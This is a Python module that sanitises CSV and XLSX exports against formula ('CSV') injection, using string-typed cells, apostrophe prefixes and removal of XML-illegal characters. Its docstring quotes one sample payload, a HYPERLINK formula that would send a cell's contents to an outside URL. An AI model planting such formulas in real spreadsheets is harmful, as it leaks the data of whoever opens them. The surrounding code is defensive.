"""Spreadsheet cells (CSV, XLSX) that never act on the person who opens them.

Every writer that produces a spreadsheet goes through here: `writers/export.py` (csv, xlsx), the
ledger template (`inputs/ledger.py`), and the statistics and review workbooks. A report's text is
untrusted: an organisation named `=HYPERLINK("http://…?leak="&A1,"点击")` must arrive as that text,
not as a live formula (formula or "CSV" injection).

- XLSX (`write_xlsx`, `xlsx_cell`): text is written as a string cell, whatever it starts with, so
  Excel and LibreOffice never evaluate it; the text itself is unchanged. Control characters XML
  cannot hold (openpyxl would raise) are replaced by U+FFFD.
- CSV (`write_csv`, `csv_text`): a CSV cell has no type, so a text starting with ``= + - @``,
  tab or carriage return is prefixed with an apostrophe, as OWASP recommends
  (https://owasp.org/www-community/attacks/CSV_Injection). Numbers stay numbers (-3 is written
  as -3; the text "-3" becomes '-3).

Use `write_csv(target, header, rows)` / `write_xlsx(target_or_sheet, header, rows)` for whole
tables, or `csv_text(value)` / `xlsx_cell(sheet, value)` for single cells when a writer builds its
sheet cell by cell (styles, widths).
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# the characters XML 1.0 (and so XLSX) cannot hold: C0 controls but tab, LF, CR; lone surrogates
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_PLAIN = (int, float, bool, dt.date, dt.datetime, dt.time, dt.timedelta)


def csv_text(value: Any) -> Any:
    """A value for a CSV cell: numbers and dates as they are, None as empty, text made inert."""
    if value is None:
        return ""
    if isinstance(value, _PLAIN):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def safe_text(value: Any) -> str:
    """Text that is inert in any spreadsheet cell: the CSV rule (an apostrophe before a formula
    start) and no character XML refuses. For cells whose type the writer cannot set."""
    return str(csv_text(_XML_ILLEGAL.sub("\ufffd", str(value)) if isinstance(value, str) else value))


def write_csv(target: Any, header: Sequence[str], rows: Iterable[Sequence[Any]], bom: bool = True) -> None:
    """Write a CSV table to the text stream `target` (a BOM first, so Excel reads UTF-8 Chinese)."""
    if bom:
        target.write("\ufeff")
    w = csv.writer(target, lineterminator="\r\n")
    w.writerow([csv_text(h) for h in header])
    for row in rows:
        w.writerow([csv_text(v) for v in row])


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A cell for `sheet.append` (write-only sheets too): text as a string cell, never a formula."""
    from openpyxl.cell import WriteOnlyCell

    if value is None or isinstance(value, _PLAIN):
        return value
    cell = WriteOnlyCell(sheet, value=_XML_ILLEGAL.sub("\ufffd", str(value)))
    cell.data_type = "s"  # openpyxl made text starting with "=" a formula ('f'): undo that
    return cell


def set_text(cell: Any, value: Any) -> Any:
    """Set a normal (not write-only) sheet cell's value; text as a string cell, never a formula."""
    if value is None or isinstance(value, _PLAIN):
        cell.value = value
    else:
        cell.value = _XML_ILLEGAL.sub("\ufffd", str(value))
        cell.data_type = "s"
    return cell


def write_xlsx(target: Any, header: Sequence[str], rows: Iterable[Sequence[Any]], title: str = "Sheet1") -> None:
    """Write one table as an XLSX workbook to `target` (a path or a binary stream)."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title)
    append_rows(ws, [header])
    append_rows(ws, rows)
    wb.save(target)


def append_rows(sheet: Any, rows: Iterable[Sequence[Any]]) -> None:
    """Append rows to a (write-only or normal) sheet with every text cell a string cell."""
    if sheet.__class__.__name__ == "WriteOnlyWorksheet":
        for row in rows:
            sheet.append([xlsx_cell(sheet, v) for v in row])
        return
    for row in rows:
        r = sheet.max_row + 1 if sheet.max_row > 1 or sheet.cell(1, 1).value is not None else 1
        for c, v in enumerate(row, start=1):
            set_text(sheet.cell(row=r, column=c), v)


# Styled sheets for the review and comparison workbooks and the corpus exports: the same cell rules,
# plus a bold frozen filterable header and severity fills.
_HEADER = {"bold": True}
FILLS = {"error": "F8D0D0", "warning": "FCE8C8", "info": "D8E6F8"}
_HEADER_FILL = "DDDDDD"


def cell(sheet: Any, value: Any, *, bold: bool = False, fill: str | None = None, wrap: bool = False) -> Any:
    """A styled write-only cell; text as a string cell (with Excel's quote prefix when it looks like
    a formula, so it stays text even after the user edits it); a date as its ISO text."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font, PatternFill

    if isinstance(value, dt.date) and not isinstance(value, dt.datetime):
        value = value.isoformat()
    made = xlsx_cell(sheet, value)
    c = WriteOnlyCell(sheet, value=made) if made is None or isinstance(made, _PLAIN) else made
    if isinstance(value, str) and value.startswith(FORMULA_START):
        c.quotePrefix = True
    if bold:
        c.font = Font(bold=True)
    if fill is not None:
        c.fill = PatternFill("solid", fgColor=fill)
    if wrap:
        c.alignment = Alignment(wrap_text=True, vertical="top")
    return c


def add_sheet(wb: Any, title: str, header: Sequence[str], rows: Iterable[Sequence[Any]],
              widths: Sequence[float] = (), fills: Iterable[str | None] | None = None,
              wrap: bool = False) -> None:
    """A sheet with a bold, frozen, filterable header row and one row per item; `fills` colours
    each row's first cell (a FILLS colour or None)."""
    from openpyxl.utils import get_column_letter

    ws = wb.create_sheet(title)
    ws.freeze_panes = "A2"
    for i, w in enumerate(widths, 1):
        ws.column_dimensions[get_column_letter(i)].width = w
    ws.append([cell(ws, h, bold=True, fill=_HEADER_FILL) for h in header])
    fill_iter = iter(fills) if fills is not None else None
    n = 0
    for row in rows:
        fill = next(fill_iter, None) if fill_iter is not None else None
        ws.append([cell(ws, v, fill=fill if j == 0 else None, wrap=wrap) for j, v in enumerate(row)])
        n += 1
    ws.auto_filter.ref = f"A1:{get_column_letter(max(1, len(header)))}{n + 1}"


def new_workbook() -> Any:
    """A write-only workbook for `add_sheet`."""
    from openpyxl import Workbook

    return Workbook(write_only=True)


__all__ = ["FILLS", "FORMULA_START", "add_sheet", "append_rows", "cell", "csv_text", "new_workbook", "safe_text",
           "set_text", "write_csv", "write_xlsx", "xlsx_cell"]
